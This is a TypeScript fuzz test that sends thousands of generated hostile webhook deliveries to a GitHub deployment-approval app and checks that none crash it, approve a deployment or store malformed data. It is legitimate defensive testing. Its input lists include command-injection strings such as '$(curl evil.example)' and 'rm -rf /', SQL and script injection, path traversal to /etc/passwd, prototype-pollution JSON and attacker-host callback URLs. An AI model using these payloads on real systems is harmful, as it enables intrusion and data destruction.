// 10,000 generated malformed or hostile webhook deliveries through the App's real HTTP endpoint,
// 16 at a time over keep-alive, on PostgreSQL: no crash, no approval, nothing malformed stored,
// and a 4xx or a 200 (logged and ignored) for each.
import { createHmac, generateKeyPairSync } from 'node:crypto';
import fc from 'fast-check';
import nock from 'nock';
import pg from 'pg';
import { isEnvironmentName } from '../../app/validate-environment-name.js';
import { createAuditSigner } from '../../src/audit/audit-signer.js';
import { verifyAuditChain } from '../../src/audit/verify-audit-chain.js';
import { openPostgresStore } from '../../src/store/open-postgres-store.js';
import type { Store } from '../../src/store/store.js';
import { FakeGitHub } from './fake-github.js';
import { loadEvent, startReplica, type Replica } from './replica-harness.js';

const url = process.env.DATABASE_URL;
const CASES = Number(process.env.SHIPGATE_FUZZ_CASES ?? 10_000);
const CONCURRENCY = 16;
const SECRET = 'hostile-10k-secret';
const HEAD = 'c'.repeat(40);

const EVENTS = {
  deployment_protection_rule: 'deployment_protection_rule.requested',
  issue_comment: 'issue_comment.created',
  check_run: 'check_run.requested_action',
  pull_request: 'pull_request.synchronize',
  deployment_status: 'deployment_status.created',
} as const;
type EventName = keyof typeof EVENTS;
const fixtures = Object.fromEntries(
  Object.entries(EVENTS).map(([name, file]) => [name, JSON.stringify(loadEvent(file))]),
) as Record<EventName, string>;

/** A delivery as sent: the event header, the raw body, and how it is signed. */
interface Delivery {
  name: string;
  body: string;
  signature: 'valid' | 'wrong' | 'missing';
  deliveryId: string;
}

const injections = [
  '/shipgate approve production; rm -rf /',
  '/shipgate approve $(curl evil.example)',
  "/shipgate approve production' OR '1'='1",
  '/shipgate approve production\n/shipgate break-glass production now',
  '/shipgate break-glass production ${{ secrets.GITHUB_TOKEN }}',
  '/shipgate reject production <script>alert(1)</script> @everyone',
  '/shipgate approve ../../production',
  '/shipgate approve production%2F..%2Fstaging',
  '/shipgate approve prod\u0000uction',
  '\u202e/shipgate approve production',
  '/SHIPGATE APPROVE PRODUCTION',
  '/shipgate approve ' + 'p'.repeat(300),
  '/shipgate approve production ' + '🚀'.repeat(200),
  '/shipgate revoke production\r\n\r\nHTTP/1.1 200 OK',
  '`/shipgate approve production`',
  '> /shipgate approve production',
];
const pathEnvironments = [
  '../production',
  'production/../../etc/passwd',
  'prod\\uction',
  '/production',
  'production/',
  '%2e%2e%2fproduction',
  'production\u0000',
  'pro\nduction',
  '..',
  ' production',
  'e'.repeat(256),
  'Ρroduction', // a Greek capital rho
];
const foreignCallbacks = [
  'https://api.github.com/repos/evil/other/actions/runs/4242/deployment_protection_rule',
  'https://api.github.com/repos/acme/other/actions/runs/4242/deployment_protection_rule',
  'https://evil.example/repos/acme/web/actions/runs/4242/deployment_protection_rule',
  'https://api.github.com/repos/acme/web/actions/runs/-1/deployment_protection_rule',
  'https://api.github.com/repos/acme/web/actions/runs/0/deployment_protection_rule',
  'https://api.github.com/repos/acme/web/actions/runs/99999999999999999999999/deployment_protection_rule',
  'https://api.github.com/repos/acme/web/actions/runs/4242/deployment_protection_rule/../../../../evil',
  'https://api.github.com/repos/acme%2Fevil/web/actions/runs/4242/deployment_protection_rule',
  'https://api.github.com/repos/acme/web/actions/runs/4242/deployment_protection_rule?x=/repos/evil/x',
  'javascript:alert(1)',
  '',
];

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, true, false, 0, -1, 1.5, 2 ** 53, -(2 ** 63), '', '0', '[]', '{}'),
  fc.integer(),
  fc.double(),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc.constantFrom(...injections, ...pathEnvironments, ...foreignCallbacks),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
  // Parsed afresh each time, as the App parses a body: own `__proto__` / `constructor` keys.
  fc
    .constantFrom('{"__proto__":{"accepted":true}}', '{"constructor":{"prototype":{"admin":true}}}')
    .map((text) => JSON.parse(text) as unknown),
);

/**
 * A real payload with 1 to 4 of its own fields (top level, or one level down) replaced by hostile
 * values, or removed: aimed at what each event actually carries.
 */
const mutatedEvent: fc.Arbitrary<{ name: string; body: string }> = fc
  .record({
    name: fc.constantFrom(...(Object.keys(EVENTS) as EventName[])),
    mutations: fc.array(
      fc.record({
        key: fc.nat(),
        inner: fc.option(fc.nat(), { nil: undefined }),
        remove: fc.integer({ min: 0, max: 4 }).map((n) => n === 0),
        value: hostileValue,
      }),
      { minLength: 1, maxLength: 4 },
    ),
  })
  .map(({ name, mutations }) => {
    const payload = JSON.parse(fixtures[name]) as Record<string, unknown>;
    for (const m of mutations) {
      const keys = Object.keys(payload);
      if (keys.length === 0) break;
      const key = keys[m.key % keys.length]!;
      let target: Record<string, unknown> = payload;
      let field = key;
      const child = payload[key];
      if (m.inner !== undefined && child && typeof child === 'object' && !Array.isArray(child)) {
        const innerKeys = Object.keys(child);
        if (innerKeys.length > 0) {
          target = child as Record<string, unknown>;
          field = innerKeys[m.inner % innerKeys.length]!;
        }
      }
      if (m.remove) delete target[field];
      else target[field] = m.value;
    }
    return { name, body: JSON.stringify(payload) };
  });

/** Targeted attacks on what the App parses: commands, environments, callback URLs, ids. */
const targeted: fc.Arbitrary<{ name: string; body: string }> = fc.oneof(
  fc
    .record({
      text: fc.oneof(
        fc.constantFrom(...injections),
        fc.string({ unit: 'grapheme', maxLength: 80 }).map((s) => `/shipgate approve ${s}`),
      ),
      login: fc.constantFrom('mallory', 'dave', 'renovate[bot]', 'Release-Manager-0 ', ''),
    })
    .map(({ text, login }) => {
      const payload = JSON.parse(fixtures.issue_comment) as Record<string, Record<string, unknown>>;
      payload.comment = { ...payload.comment, body: text, user: { login, id: 66, type: 'User' } };
      payload.sender = { login, id: 66, type: login.endsWith('[bot]') ? 'Bot' : 'User' };
      return { name: 'issue_comment', body: JSON.stringify(payload) };
    }),
  fc
    .record({
      environment: fc.oneof(
        fc.constantFrom(...pathEnvironments),
        fc.string({ unit: 'grapheme', maxLength: 30 }),
      ),
      callback: fc.constantFrom(...foreignCallbacks, null),
    })
    .map(({ environment, callback }) => {
      const payload = JSON.parse(fixtures.deployment_protection_rule) as Record<string, unknown>;
      payload.environment = environment;
      if (callback !== null) payload.deployment_callback_url = callback;
      return { name: 'deployment_protection_rule', body: JSON.stringify(payload) };
    }),
  fc
    .record({
      identifier: fc.oneof(
        fc.constantFrom('approve', 'reject', 'APPROVE', 'approve ', 'break-glass'),
        fc.string({ maxLength: 20 }),
      ),
      login: fc.constantFrom('mallory', 'dave', 'github-actions[bot]'),
    })
    .map(({ identifier, login }) => {
      const payload = JSON.parse(fixtures.check_run) as Record<string, unknown>;
      payload.requested_action = { identifier };
      payload.sender = { login, id: 67, type: login.endsWith('[bot]') ? 'Bot' : 'User' };
      return { name: 'check_run', body: JSON.stringify(payload) };
    }),
);

/** Bodies that are not a webhook payload at all, or a huge one. */
const rawBody: fc.Arbitrary<{ name: string; body: string }> = fc.record({
  name: fc.oneof(
    fc.constantFrom(
      ...Object.keys(EVENTS),
      'push',
      '',
      'x'.repeat(200),
      'valueOf',
      'constructor',
      '__proto__',
      'toString',
      'hasOwnProperty',
      'Issue_Comment',
    ),
    fc.string({ maxLength: 10 }),
  ),
  body: fc.oneof(
    fc.constantFrom(
      'null',
      '[]',
      '"text"',
      '42',
      'true',
      '{',
      '{"a":',
      '\u0000',
      '{"installation":{"id":"1"}}',
      '{"installation":{"id":-5}}',
      '{"installation":{"id":1.5}}',
    ),
    fc.json({ maxDepth: 3 }),
    fc.string({ maxLength: 100 }),
    fc
      .nat({ max: 3 })
      .map((mb) =>
        JSON.stringify({ ...JSON.parse(fixtures.issue_comment), padding: 'x'.repeat(mb * 512 * 1024 + 1) }),
      ),
    fc.nat({ max: 5_000 }).map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`),
  ),
});

const delivery: fc.Arbitrary<Delivery> = fc
  .record({
    event: fc.oneof(
      { weight: 6, arbitrary: mutatedEvent },
      { weight: 3, arbitrary: targeted },
      { weight: 2, arbitrary: rawBody },
    ),
    signature: fc.constantFrom('valid', 'valid', 'valid', 'valid', 'valid', 'valid', 'wrong', 'missing'),
    // Some delivery ids repeat: a redelivery must change nothing.
    deliveryId: fc.oneof(fc.uuid(), fc.constantFrom('dup-1', 'dup-2', 'dup-3')),
  })
  .map(({ event, signature, deliveryId }) => ({
    ...event,
    signature: signature as Delivery['signature'],
    deliveryId,
  }));

if (!url) {
  describe('10,000 hostile webhooks on PostgreSQL', () => {
    it.skip('needs DATABASE_URL (e.g. postgres://postgres@127.0.0.1:5432/test); skipped because it is unset (hostile-webhooks.test.ts covers 400 on PGlite)', () =>
      undefined);
  });
} else {
  const schema = `sg_e2e_hostile_${process.pid}_${Math.floor(Math.random() * 1e9).toString(36)}`;
  const signingKey = generateKeyPairSync('ed25519').privateKey;
  const signer = createAuditSigner(signingKey);
  const privateKey = generateKeyPairSync('rsa', { modulusLength: 2048 })
    .privateKey.export({ type: 'pkcs8', format: 'pem' })
    .toString();
  let github: FakeGitHub;
  let store: Store;
  let app: Replica;
  let db: pg.Client;

  beforeAll(async () => {
    nock.disableNetConnect();
    nock.enableNetConnect('127.0.0.1');
    github = new FakeGitHub();
    await github.start();
    // Only a login no generator produces may sign off: no delivery can lead to an approval.
    github.files.set(
      'acme/web:.github/shipgate.yml',
      'environments:\n  production:\n    tiers:\n      high: { approvals: 1, from: [release-manager-0] }\n',
    );
    github.addPull('acme', 'web', {
      number: 7,
      head_sha: HEAD,
      base_sha: 'b'.repeat(40),
      author: 'dave',
      commits: [],
    });
    github.addRun('acme', 'web', 4242, HEAD);
    store = await openPostgresStore({ connectionString: url, schema, signer, maxConnections: 8 });
    // The App in a process of its own, so that it and this generator each have a core.
    app = await startReplica({
      DATABASE_URL: url,
      SHIPGATE_SCHEMA: schema,
      GITHUB_BASE_URL: github.baseUrl,
      WEBHOOK_SECRET: SECRET,
      APP_PRIVATE_KEY: privateKey,
      SHIPGATE_SIGNING_KEY: signingKey.export({ type: 'pkcs8', format: 'pem' }).toString(),
      WORKER_ID: 'hostile',
    });
    db = new pg.Client({ connectionString: url });
    await db.connect();
  }, 60_000);

  afterAll(async () => {
    await app?.stop();
    await store?.close();
    await github?.stop();
    await db?.query(`DROP SCHEMA IF EXISTS ${schema} CASCADE`);
    await db?.end();
    nock.enableNetConnect();
  });

  async function send(d: Delivery): Promise<number> {
    const body = Buffer.from(d.body, 'utf8');
    const headers: Record<string, string> = {
      'content-type': 'application/json',
      'x-github-event': d.name,
      'x-github-delivery': d.deliveryId,
    };
    if (d.signature !== 'missing') {
      const key = d.signature === 'valid' ? SECRET : 'not-the-secret';
      headers['x-hub-signature-256'] = `sha256=${createHmac('sha256', key).update(body).digest('hex')}`;
    }
    try {
      const res = await fetch(`${app.url}/api/github/webhooks`, { method: 'POST', headers, body });
      await res.arrayBuffer();
      return res.status;
    } catch {
      return -1; // the connection failed: the App crashed or dropped it
    }
  }

  describe('10,000 hostile webhooks on PostgreSQL', () => {
    it(`answers ${CASES} generated deliveries, 16 at a time, without a crash, an approval or stored garbage`, async () => {
      const seed = Number(process.env.SHIPGATE_FUZZ_SEED ?? 20261122);
      const cases = fc.sample(delivery, { numRuns: CASES, seed });
      const began = Date.now();
      const statuses = new Map<number, number>();
      const unexpected: { status: number; name: string; body: string }[] = [];
      let next = 0;
      const worker = async () => {
        while (next < cases.length) {
          const d = cases[next++]!;
          const status = await send(d);
          statuses.set(status, (statuses.get(status) ?? 0) + 1);
          const allowed = d.signature === 'valid' ? [200, 400, 413] : [401];
          if (!allowed.includes(status))
            unexpected.push({ status, name: d.name, body: d.body.slice(0, 300) });
        }
      };
      await Promise.all(Array.from({ length: CONCURRENCY }, worker));
      console.log(
        `${CASES} deliveries in ${Date.now() - began} ms: ${JSON.stringify(Object.fromEntries(statuses))}`,
      );
      expect(unexpected.slice(0, 5)).toEqual([]);
      expect(statuses.get(200)).toBeGreaterThan(CASES / 10);
      expect(statuses.get(400)).toBeGreaterThan(0);
      expect(statuses.get(401)).toBeGreaterThan(0);

      // No approval, no rejection, no accepted sign-off.
      expect(github.reviews.filter((r) => 'state' in r.body)).toEqual([]);
      expect([...github.runs.values()].filter((r) => r.answered)).toEqual([]);
      // (A revoke from anyone is accepted: it withdraws only that person's own sign-off.)
      const { rows: accepted } = await db.query(
        `SELECT login, kind FROM ${schema}.signoffs WHERE accepted AND kind <> 'revoke'`,
      );
      expect(accepted).toEqual([]);
      const { rows: outbox } = await db.query(`SELECT id FROM ${schema}.decision_outbox`);
      expect(outbox).toEqual([]);
      // What was stored is well-formed: a known repository, a real run, a valid environment and commit.
      const { rows: requests } = await db.query<{
        owner: string;
        repo: string;
        environment: string;
        run_id: string;
        sha: string;
        callback_url: string;
        state: string;
      }>(
        `SELECT owner, repo, environment, run_id, sha, callback_url, state FROM ${schema}.protection_requests`,
      );
      for (const r of requests) {
        expect(isEnvironmentName(r.environment)).toBe(true);
        expect(r.sha).toMatch(/^[0-9a-f]{40}$/);
        expect(Number(r.run_id)).toBeGreaterThan(0);
        expect(r.callback_url).toContain(
          `/repos/${r.owner}/${r.repo}/actions/runs/${r.run_id}/deployment_protection_rule`,
        );
        expect(r.state).not.toBe('approved');
      }
      const { rows: signoffs } = await db.query<{ environment: string; sha: string; login: string }>(
        `SELECT environment, sha, login FROM ${schema}.signoffs`,
      );
      for (const s of signoffs) {
        expect(isEnvironmentName(s.environment)).toBe(true);
        expect(s.sha).toMatch(/^[0-9a-f]{40}$/);
        expect(s.login.length).toBeGreaterThan(0);
      }
      const records = await store.listAudit();
      expect(
        verifyAuditChain(records, [{ keyId: signer.keyId, publicKey: signer.publicKey }], {
          expectedHead: await store.getAuditHead(),
        }),
      ).toMatchObject({ ok: true });
      expect((await fetch(`${app.url}/healthz`)).status).toBe(200);
      expect(app.child.exitCode).toBeNull();
    }, 90_000);
  });
}
